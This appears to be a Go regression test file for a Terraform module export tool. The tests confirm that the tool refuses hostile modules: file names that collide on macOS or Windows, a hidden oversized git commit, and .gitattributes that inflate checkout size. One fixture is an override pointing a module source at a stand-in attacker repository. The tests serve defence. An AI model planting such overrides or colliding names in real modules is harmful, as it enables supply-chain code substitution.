package hostile

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airgap/airgap/bundle/bundletest"
	"github.com/airgap/airgap/dist"
	"github.com/airgap/airgap/dist/registrytest"
	"github.com/airgap/airgap/testdata/e2e/harness"
)

// exportWorld is a stand-in internet and a site key for export tests.
type exportWorld struct {
	in   *registrytest.Internet
	work string
	env  []string
}

func newExportWorld(t *testing.T) *exportWorld {
	w := &exportWorld{in: registrytest.New(t), work: t.TempDir()}
	harness.MustRun(t, w.work, nil, harness.Bin, "keygen", "--out", "k/site", "--no-passphrase")
	w.env = append(w.in.Env(), "HOME="+w.work, "XDG_CACHE_HOME=", "TF_CLI_CONFIG_FILE="+filepath.Join(w.work, "none.tfrc"))
	return w
}

// export runs 'airgap export' of one module (in a fresh cache) and returns
// its output, the bundle's path and the error.
func (w *exportWorld) export(t *testing.T, module string, extra ...string) (string, string, error) {
	t.Helper()
	dir := t.TempDir()
	manifest := filepath.Join(dir, "m.hcl")
	os.WriteFile(manifest, []byte("platforms = [\"linux_amd64\"]\nmodule \""+module+"\" {}\n"), 0o644)
	out := filepath.Join(dir, "b.bundle")
	args := append([]string{"export", "--manifest", manifest, "--sign-key", filepath.Join(w.work, "k/site.key.asc"),
		"--out", out, "--cache", filepath.Join(dir, "cache")}, extra...)
	text, err := harness.CmdRun(t, w.work, w.env, harness.Bin, args...)
	return text, out, err
}

// bareRepo makes github.com/<name>(.git) on the stand-in from a work tree
// that build fills and commits, and returns the work tree.
func (w *exportWorld) bareRepo(t *testing.T, name string, build func(work string)) string {
	t.Helper()
	work := filepath.Join(t.TempDir(), "work")
	os.MkdirAll(work, 0o755)
	git(t, work, "", "init", "-q", "-b", "main")
	build(work)
	bare := filepath.Join(w.in.GitRoot, name+".git")
	git(t, work, "", "clone", "-q", "--bare", work, bare)
	os.Symlink(filepath.Base(bare), filepath.Join(w.in.GitRoot, name))
	return work
}

// git runs git in dir with stdin and returns its output.
func git(t *testing.T, dir, stdin string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Stdin = strings.NewReader(stdin)
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, errb.String())
	}
	return strings.TrimSpace(out.String())
}

func commitAll(t *testing.T, work string, files map[string]string) {
	t.Helper()
	for n, c := range files {
		p := filepath.Join(work, filepath.FromSlash(n))
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(c), 0o644)
	}
	git(t, work, "", "add", "-A")
	git(t, work, "", "commit", "-q", "-m", "x")
	git(t, work, "", "tag", "v1")
}

// TestHostileFoldingNames: a module whose names are distinct on Linux but
// one file on macOS or Windows (case, Unicode normalization, trailing dots
// and spaces, backslashes, device names) is refused in a module archive,
// in a git tree and in a package it would vendor, and the message names
// both colliding entries. Before, each exported with only the good call
// recorded, and on a Mac "override.tf" would merge into the vendored
// "Modules/net" and send it back to the attacker's repository.
func TestHostileFoldingNames(t *testing.T) {
	t.Parallel()
	w := newExportWorld(t)
	const override = "module \"x\" {\n  source = \"git::https://attacker.example/evil.git\"\n}\n"
	good := "module \"net\" {\n  source = \"./Modules/net\"\n}\n"
	e := func(name, body string) registrytest.Entry { return registrytest.Entry{Name: name, Body: body} }
	archives := []struct {
		name    string
		entries []registrytest.Entry // in archive order: the later one is named as the entry
		want    []string
	}{
		{"case", []registrytest.Entry{e("main.tf", good), e("Modules/net/main.tf", "# net\n"), e("modules/net/override.tf", override)},
			[]string{`"Modules"`, `"modules"`, `"modules/net/override.tf"`, "differ only in case"}},
		{"nfd", []registrytest.Entry{e("main.tf", "# m\n"), e("caf\u00e9.tf", "# nfc\n"), e("cafe\u0301.tf", override)},
			[]string{"caf\u00e9.tf", "cafe\u0301.tf", "normalization"}},
		{"trailing space", []registrytest.Entry{e("main.tf", "# m\n"), e("evil.tf ", override)}, []string{`"evil.tf "`, "trailing dots and spaces"}},
		{"trailing dot", []registrytest.Entry{e("main.tf", "# m\n"), e("evil.tf.", override)}, []string{`"evil.tf."`, "trailing dots and spaces"}},
		{"backslash", []registrytest.Entry{e("main.tf", "# m\n"), e(`modules\net\override.tf`, override)}, []string{`modules\\net\\override.tf`, "backslash"}},
		{"device", []registrytest.Entry{e("main.tf", "# m\n"), e("CON.tf", override)}, []string{`"CON.tf"`, "device name"}},
	}
	for _, a := range archives {
		t.Run("archive/"+a.name, func(t *testing.T) {
			name := strings.ReplaceAll(a.name, " ", "-")
			w.in.AddModule("registry.terraform.io", "evil", name, "aws", "1.0.0", w.in.AddRawArchive(t, name+".tar.gz", registrytest.TarGz(t, a.entries)))
			out, _, err := w.export(t, "evil/"+name+"/aws")
			checkRefused(t, out, err, a.want)
		})
	}

	// The same names in a git tree, refused from "git ls-tree" before
	// anything is checked out; and in a package vendored into a module.
	w.bareRepo(t, "evil/fold", func(work string) {
		commitAll(t, work, map[string]string{"main.tf": good, "Modules/net/main.tf": "# net\n", "modules/net/override.tf": override})
	})
	w.in.AddModule("registry.terraform.io", "evil", "gitfold", "aws", "1.0.0", "git::https://github.com/evil/fold?ref=v1")
	t.Run("git", func(t *testing.T) {
		out, _, err := w.export(t, "evil/gitfold/aws")
		checkRefused(t, out, err, []string{`"Modules"`, `"modules"`, "git::https://github.com/evil/fold"})
	})
	w.in.AddModule("registry.terraform.io", "evil", "vendorfold", "aws", "1.0.0", w.in.AddArchive(t, "vendorfold.tar.gz",
		map[string]string{"main.tf": "module \"dep\" {\n  source = \"git::https://github.com/evil/fold?ref=v1\"\n}\n"}))
	t.Run("vendored", func(t *testing.T) {
		out, _, err := w.export(t, "evil/vendorfold/aws")
		checkRefused(t, out, err, []string{`main.tf:2: module "dep"`, `"Modules"`, `"modules"`})
	})
}

func checkRefused(t *testing.T, out string, err error, want []string) {
	t.Helper()
	if err == nil {
		t.Fatalf("export accepted it:\n%s", out)
	}
	for _, s := range want {
		if !strings.Contains(out, s) {
			t.Errorf("the message lacks %q:\n%s", s, out)
		}
	}
}

// TestHostileGitFetchSize: a ?ref= naming a commit no ref advertises is
// fetched after the clone; that fetch runs under --max-git-size like the
// clone (it used to run unwatched: a host could fill the exporting
// machine's disk for the whole git timeout). With the default limit the
// same module exports, so the limit is what stops it.
func TestHostileGitFetchSize(t *testing.T) {
	t.Parallel()
	w := newExportWorld(t)
	w.bareRepo(t, "evil/hidden", func(work string) { commitAll(t, work, map[string]string{"main.tf": "# small\n"}) })
	bare := filepath.Join(w.in.GitRoot, "evil/hidden.git")
	junk := make([]byte, 8<<20)
	rand.Read(junk)
	f := filepath.Join(t.TempDir(), "junk")
	os.WriteFile(f, junk, 0o644)
	tree := git(t, bare, "100644 blob "+git(t, bare, "", "hash-object", "-w", f)+"\tjunk.bin\n", "mktree")
	hidden := git(t, bare, "", "commit-tree", tree, "-m", "hidden")
	git(t, bare, "", "config", "uploadpack.allowAnySHA1InWant", "true")
	w.in.AddModule("registry.terraform.io", "evil", "hidden", "aws", "1.0.0", "git::https://github.com/evil/hidden?ref="+hidden)

	out, bundleFile, err := w.export(t, "evil/hidden/aws", "--max-git-size", "1MiB")
	checkRefused(t, out, err, []string{"git fetch was stopped", "1048576", "--max-git-size"})
	if _, serr := os.Stat(bundleFile); serr == nil {
		t.Error("a bundle was written")
	}
	if out, _, err := w.export(t, "evil/hidden/aws"); err != nil {
		t.Fatalf("the control (default limit) failed: %v\n%s", err, out)
	}
}

// TestHostileGitAttributesExport: the module's own .gitattributes asks for
// CRLF line ends, UTF-32 and $Id$ expansion on checkout. The exported
// archive holds each blob's bytes as committed (checkout used to write 4×
// the bytes the tree check had counted).
func TestHostileGitAttributesExport(t *testing.T) {
	t.Parallel()
	w := newExportWorld(t)
	body := strings.Repeat("# a line of configuration\n", 2048)
	w.bareRepo(t, "evil/attrs", func(work string) {
		os.WriteFile(filepath.Join(work, "main.tf"), []byte(body), 0o644)
		os.WriteFile(filepath.Join(work, "ids.tf"), []byte("# $Id$\n"), 0o644)
		git(t, work, "", "add", "-A")
		os.WriteFile(filepath.Join(work, ".gitattributes"), []byte("*.tf text eol=crlf working-tree-encoding=UTF-32LE ident\n"), 0o644)
		git(t, work, "", "add", ".gitattributes")
		git(t, work, "", "commit", "-q", "-m", "x")
		git(t, work, "", "tag", "v1")
	})
	w.in.AddModule("registry.terraform.io", "evil", "attrs", "aws", "1.0.0", "git::https://github.com/evil/attrs?ref=v1")
	out, bundleFile, err := w.export(t, "evil/attrs/aws")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	files := moduleFiles(t, bundleFile, filepath.Join(w.work, "k/site.pub.asc"))
	for name, want := range map[string]string{"main.tf": body, "ids.tf": "# $Id$\n"} {
		if got := files[name]; got != want {
			t.Errorf("%s: the archive holds %d bytes for a %d-byte blob (%q…)", name, len(got), len(want), got[:min(len(got), 16)])
		}
	}
}

// moduleFiles reads the first module archive of a bundle: name -> content.
func moduleFiles(t *testing.T, path, keyring string) map[string]string {
	t.Helper()
	br := harness.OpenBundle(t, path, keyring)
	for {
		b, rd, err := br.Next()
		if errors.Is(err, io.EOF) {
			t.Fatal("no module archive in the bundle")
		}
		if err != nil {
			t.Fatal(err)
		}
		if b.Role != "module-archive" {
			continue
		}
		gz, err := gzip.NewReader(rd)
		if err != nil {
			t.Fatal(err)
		}
		out := map[string]string{}
		tr := tar.NewReader(gz)
		for {
			h, err := tr.Next()
			if err != nil {
				return out
			}
			data, _ := io.ReadAll(tr)
			out[h.Name] = string(data)
		}
	}
}

// TestHostileFoldingNamesInBundle: a bundle whose module archive holds
// names that fold (as an older or hostile exporter would write it), validly
// signed, is refused at the transfer station and by import.
func TestHostileFoldingNamesInBundle(t *testing.T) {
	t.Parallel()
	w := harness.NewHostileWorld(t)
	p := filepath.Join(w.Work, "fold.tar.gz")
	bundletest.WriteModuleArchive(t, p, map[string]string{"Modules/net/main.tf": "# net\n", "modules/net/override.tf": "# evil\n"})
	d := bundletest.FileDigest(t, p)
	w.Files[d] = p
	fi, _ := os.Stat(p)
	mv := dist.ModuleVersion{Host: "registry.terraform.io", Namespace: "evil", Name: "fold", System: "aws", Version: "1.0.0", Archive: d, Size: fi.Size()}
	path := w.Write(t, "fold", dist.Catalog{Modules: []dist.ModuleVersion{mv}})
	root := filepath.Join(w.Work, "store")
	for _, args := range [][]string{{"verify", "--keyring", w.Keyring, path}, {"import", "--keyring", w.Keyring, "--store", root, path}} {
		out, err := harness.CmdRun(t, w.Work, nil, harness.Bin, args...)
		if harness.ExitCode(err) != 1 || !strings.Contains(out, `"Modules" and "modules"`) || !strings.Contains(out, "module registry.terraform.io/evil/fold/aws 1.0.0") {
			t.Errorf("%s (exit %d):\n%s", args[0], harness.ExitCode(err), out)
		}
	}
	if _, err := os.Stat(filepath.Join(root, "index.json")); err == nil {
		t.Error("the import wrote an index")
	}
}
